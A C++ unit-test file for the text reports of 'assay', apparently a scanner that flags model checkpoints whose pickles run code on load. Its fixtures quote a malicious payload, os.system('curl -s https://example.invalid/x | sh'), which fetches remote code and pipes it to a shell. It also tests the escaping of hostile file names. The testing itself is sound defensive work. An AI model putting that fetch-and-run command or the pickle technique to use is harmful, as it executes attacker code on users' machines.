#include "report/text.h"

#include <gtest/gtest.h>

#include "base/text.h"
#include "report/sample.h"
#include "report/words.h"

namespace assay::report {
namespace {

using finding::Status;

bool has(const std::string& text, std::string_view part) { return text.find(part) != std::string::npos; }

std::size_t times(const std::string& text, std::string_view part) {
  std::size_t n = 0;
  for (auto at = text.find(part); at != std::string::npos; at = text.find(part, at + 1)) ++n;
  return n;
}

Report one(const Artifact& artifact) {
  auto r = sample::mixed();
  r.artifacts = {artifact};
  r.status = artifact.status;
  return r;
}

TEST(TextReport, SaysWhatItWouldDoWhereAndWhatToDoNow) {
  const auto text = to_text(sample::mixed(), {.colour = false, .verbose = false, .width = 120});
  EXPECT_TRUE(has(text,
                  "unsafe      pytorch_model.bin — would do harm when loaded\n"
                  "            Loading this file runs the shell command `curl -s https://example.invalid/x | sh`.\n"
                  "              os.system('curl -s https://example.invalid/x | sh')\n"
                  "              in archive/data.pkl, at offset 0x1f · pickle.call.os-system\n"
                  "            Do now: Do not load it. Ask its author for safetensors.\n"))
      << text;
}

TEST(TextReport, SaysByWhichCommitABlobCame) {
  auto artifact = sample::mixed().artifacts[4];
  artifact.origins = {{"b1", std::string(40, 'c'), "A U Thor", "a@b", "2023-11-14T22:13:20Z", 2}};
  const auto text = to_text(one(artifact), {.colour = false, .verbose = false, .width = 140});
  EXPECT_TRUE(has(text,
                  "commit ccccccc by A U Thor on 2023-11-14, pytorch_model.bin, in archive/data.pkl, at offset 0x1f · "
                  "pickle.call.os-system\n"))
      << text;
  EXPECT_TRUE(has(text, "The same content has 2 other paths in this history.")) << text;
}

TEST(TextReport, EndsWithTheSummary) {
  const auto text = to_text(sample::mixed(), {.colour = false, .verbose = false, .width = 120});
  EXPECT_TRUE(
      has(text,
          "unsafe: 1 of 7 files would do harm when loaded · not scanned for: malware, secrets\n"
          "files        1 unsafe, 1 suspicious, 1 error, 1 unscanned, 1 caution, 2 safe (28.6 kB)\n"
          "coverage     5.5 kB parsed, 15.0 kB inert, 0 B padding, 8.0 kB unexamined\n"
          "not examined Python source code: modeling.py\n"
          "better       assay convert writes the tensors of 2 checkpoints as safetensors, without running anything\n"
          "policy       middle (0123456789abcdef)\n"
          "time         0.04 s\n"
          "confinement  cell\n"
          "safe means: loading runs no code; it says nothing about what the model does\n"))
      << text;
}

TEST(TextReport, NamesSafeFilesOnlyWhenVerbose) {
  EXPECT_FALSE(has(to_text(sample::mixed()), "good.bin"));
  const auto text = to_text(sample::mixed(), {.colour = false, .verbose = true, .width = 200});
  EXPECT_TRUE(has(text, "safe        good.bin — loading it runs no code"));
  EXPECT_TRUE(has(text, "torch._utils._rebuild_tensor_v2: innocuous, rebuilds a tensor from its bytes"));
  EXPECT_TRUE(has(text, "12 tensors, 3.0 kB; torch.load(weights_only=True) takes it"));
  EXPECT_TRUE(has(text, "torch.load(weights_only=True) refuses it: os.system is not on its list, at offset 0x1f"));
  EXPECT_EQ(times(text, "use safetensors"), 1u) << "for the safe pickle, not for the safe configuration";
}

TEST(TextReport, PutsTheWorstNextToTheSummary) {
  const auto text = to_text(sample::mixed());
  EXPECT_LT(text.find("caution "), text.find("unscanned "));
  EXPECT_LT(text.find("unscanned "), text.find("error "));
  EXPECT_LT(text.find("suspicious "), text.find("unsafe "));
}

TEST(TextReport, GivesEveryFileThatIsNotSafeALine) {
  for (auto status :
       {Status::caution, Status::queued, Status::unscanned, Status::error, Status::suspicious, Status::unsafe}) {
    auto bare = sample::artifact("bare.bin", status);
    const auto text = to_text(one(bare));
    EXPECT_TRUE(has(text, std::string{to_string(status)} + " ")) << text;
    EXPECT_TRUE(has(text, "bare.bin — ")) << text;
    if (status != Status::unscanned && status != Status::queued) {
      EXPECT_TRUE(has(text, "Do now: ")) << text;
    }
  }
}

TEST(TextReport, GroupsWhatRepeatsARule) {
  auto evil = sample::checkpoint("evil.bin", Status::unsafe);
  for (unsigned i = 0; i < 17; ++i) evil.findings.push_back(sample::os_system(i, "echo " + std::to_string(i)));
  const auto text = to_text(one(evil));
  EXPECT_TRUE(has(text, "also at offset 0x4: os.system('echo 4')\n"));
  EXPECT_FALSE(has(text, "echo 5"));
  EXPECT_TRUE(has(text, "and 12 more like it\n"));
  EXPECT_TRUE(has(to_text(one(evil), {.colour = false, .verbose = true, .width = 80}), "os.system('echo 16')"));
}

TEST(TextReport, StaysShortWhereAFileHasEverythingWrongWithIt) {
  auto evil = sample::artifact("evil.bin", Status::unsafe);
  for (unsigned i = 0; i < 5000; ++i) {
    evil.findings.push_back(sample::os_system(i, std::string(5000, 'x')));
    evil.findings.back().rule = "rule-" + std::to_string(i);
    evil.unexamined.push_back({"m", {i, i + 1}, "why"});
    evil.unscanned.push_back("reason " + std::to_string(i));
  }
  const auto text = to_text(one(evil));
  EXPECT_TRUE(has(text, "and 4,992 other kinds of finding; -v shows all"));
  EXPECT_TRUE(has(text, "and 4,997 other ranges not examined"));
  EXPECT_TRUE(has(text, "4,992 other reasons"));
  EXPECT_LT(times(text, "\n"), 1000u);
}

TEST(TextReport, SaysOnceWhyBytesWereNotExamined) {
  auto a = sample::artifact("a.bin", Status::suspicious);
  a.unexamined = {{"", {0, 9}, "odd bytes"}};
  a.unscanned = {"odd bytes", "Python source code"};
  const auto text = to_text(one(a));
  EXPECT_EQ(times(text, "Not examined: 0x0 to 0x9: odd bytes\n"), 1u) << text;
  EXPECT_EQ(times(text, "Not examined: odd bytes\n"), 0u) << text;
  EXPECT_EQ(times(text, "Not examined: Python source code\n"), 1u) << text;
}

TEST(TextReport, HidesNotesAndWaivedFindingsUntilAsked) {
  auto a = sample::artifact("a.pkl", Status::caution);
  a.findings = {sample::os_system(1, "echo waived"), sample::os_system(2, "echo note")};
  a.findings[0].waived = true;
  a.findings[1].severity = finding::Severity::note;
  const auto text = to_text(one(a));
  EXPECT_FALSE(has(text, "echo"));
  EXPECT_TRUE(has(text, "waived       1 finding, by the policy"));
  const auto all = to_text(one(a), {.colour = false, .verbose = true, .width = 120});
  EXPECT_TRUE(has(all, "`echo waived`. (waived by the policy)"));
}

// Whoever reads "runs no code" believes it, and does not know what somebody else decided to live with.
TEST(TextReport, NeverSaysThatAWaivedFileRunsNoCode) {
  auto a = sample::artifact("a.pkl", Status::safe);
  a.findings = {sample::os_system(1, "true")};
  a.findings[0].waived = true;
  auto r = one(a);
  const auto alone = to_text(r, {.colour = false, .verbose = false, .width = 120});
  EXPECT_TRUE(has(alone, "safe        a.pkl — only because the policy waives what was found; it would be unsafe\n"));
  EXPECT_TRUE(
      has(alone, "safe: only because the policy waives what was found in this file · not scanned for: malware"));
  EXPECT_TRUE(has(alone, "safe means: loading runs no code, or the policy waives what it runs; it says nothing"));
  EXPECT_FALSE(has(alone, "loading it runs no code"));
  EXPECT_FALSE(has(alone, "loading this file runs no code"));
  r.artifacts.push_back(sample::artifact("b.json", Status::safe));
  const auto both = to_text(r);
  EXPECT_TRUE(has(both, "safe: only because the policy waives what was found in 1 of 2 files"));
  EXPECT_FALSE(has(both, "b.json"));
}

TEST(TextReport, NeverSaysThatNoHarmWasFoundWhereHarmWasWaived) {
  auto a = sample::artifact("a.pkl", Status::caution);
  a.findings = {sample::os_system(1, "true")};
  a.findings[0].waived = true;
  const auto text = to_text(one(a), {.colour = false, .verbose = false, .width = 120});
  EXPECT_TRUE(has(text, "caution     a.pkl — only because the policy waives what was found; it would be unsafe\n"));
  EXPECT_TRUE(has(text, "the file would run code by design; no harm was found but what the policy waives"));
}

TEST(TextReport, SpeaksOfAnEmptyRepository) {
  EXPECT_TRUE(has(to_text(Report{}), "safe: there were no files to scan\n"));
}

TEST(TextReport, SaysHowManyFilesWereLeftOut) {
  Report none;
  none.status = Status::unscanned;
  none.excluded = 5000;
  EXPECT_TRUE(has(to_text(none), "unscanned: no file was examined; --include or --exclude left out 5,000\n"));
  auto some = sample::mixed();
  EXPECT_FALSE(has(to_text(some), "left out"));
  some.excluded = 1;
  EXPECT_TRUE(has(to_text(some), "left out     1 file, by --include or --exclude\n"));
}

// A member's name that clears the screen or writes "safe" on a line of its own would forge the verdict.
TEST(TextReport, LetsNoStringOfAFileDraw) {
  for (const bool verbose : {false, true}) {
    const auto text =
        to_text(sample::filled_with(sample::kHostile), {.colour = false, .verbose = verbose, .width = 80});
    EXPECT_TRUE(is_utf8(text));
    std::string lines;
    for (const char c : text)
      if (c != '\n') lines += c;
    EXPECT_EQ(printable(lines, lines.size()), lines) << "nothing is left to escape";
    EXPECT_FALSE(has(text, "\nsafe  \\u202e"));
  }
}

TEST(TextReport, ColoursOnlyWhenAsked) {
  EXPECT_FALSE(has(to_text(sample::mixed()), "\x1b"));
  const auto text = to_text(sample::mixed(), {.colour = true, .verbose = false, .width = 80});
  EXPECT_TRUE(has(text, "\x1b[1;31munsafe\x1b[0m"));
  EXPECT_EQ(times(text, "\x1b[") % 2, 0u) << "every colour is switched off again";
}

TEST(TextReport, FitsNarrowTerminals) {
  for (unsigned width : {0u, 1u, 39u, 40u, 80u})
    EXPECT_TRUE(has(to_text(sample::mixed(), {.colour = false, .verbose = true, .width = width}), "safe means:"));
}

}  // namespace
}  // namespace assay::report
